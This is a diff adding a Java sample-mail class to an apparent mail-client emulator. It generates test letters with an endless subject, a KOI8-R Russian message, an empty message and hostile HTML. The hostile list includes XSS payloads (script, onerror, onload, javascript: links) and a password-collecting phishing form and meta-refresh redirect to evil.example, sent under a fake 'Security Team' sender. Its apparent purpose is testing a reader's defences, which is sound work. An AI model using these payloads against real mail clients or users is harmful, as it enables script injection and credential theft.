@@ -1,0 +1,59 @@
+package hexmail.emulator.sample;
+
+import java.util.List;
+
+/// Mail that tries a reader: hostile HTML, a subject without end, no subject at all, charsets few
+/// people know.
+final class OddMail {
+  private static final List<String> HOSTILE =
+      List.of(
+          "<p>Hello</p><script>document.title='owned'</script><p>Nothing to see.</p>",
+          "<img src=x onerror=\"document.title='owned'\"><p>A picture that is none.</p>",
+          "<a href=\"javascript:document.title='owned'\">Click here</a><iframe src=\"https://evil.example/\"></iframe>",
+          "<svg onload=\"document.title='owned'\"></svg><style>*{display:none}</style><p>Still here?</p>",
+          "<form action=\"https://evil.example/collect\"><input name=password><button>Sign in again</button></form>",
+          "</textarea></title><base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\"><p>Redirect</p>");
+
+  private OddMail() {}
+
+  static Letter odd(Scene scene) {
+    return switch (scene.number(1, 5)) {
+      case 1, 2 -> hostile(scene);
+      case 3 -> endless(scene);
+      case 4 -> rareCharset(scene);
+      default -> silent(scene);
+    };
+  }
+
+  private static Letter hostile(Scene scene) {
+    return new Letter(
+            new Person("<b>Security</b> \"Team\"", "security@evil.example"),
+            scene.owner(),
+            "Your account <script>alert(1)</script> needs attention")
+        .text("Please look at the HTML part of this message.\n")
+        .html("<html><body>" + scene.pick(HOSTILE) + "</body></html>")
+        .labels("Inbox");
+  }
+
+  private static Letter endless(Scene scene) {
+    String subject =
+        "A subject that goes on " + "and on ".repeat(scene.number(60, 140)) + "and ends here";
+    return new Letter(scene.someone(Cast.othersThan(scene.owner())), scene.owner(), subject)
+        .text("Sorry, I could not stop.\n")
+        .labels("Inbox", "Category Personal");
+  }
+
+  private static Letter rareCharset(Scene scene) {
+    Person from = new Person("Дмитрий", "dmitri@primer.example");
+    return new Letter(from, scene.owner(), "Чертежи машины")
+        .charset("KOI8-R")
+        .text("Добрый день! Чертежи готовы, пришлю их завтра.\n")
+        .labels("Inbox", "Category Personal");
+  }
+
+  private static Letter silent(Scene scene) {
+    return new Letter(new Person("", "nobody@quiet.example"), scene.owner(), "")
+        .text("")
+        .labels("Inbox");
+  }
+}
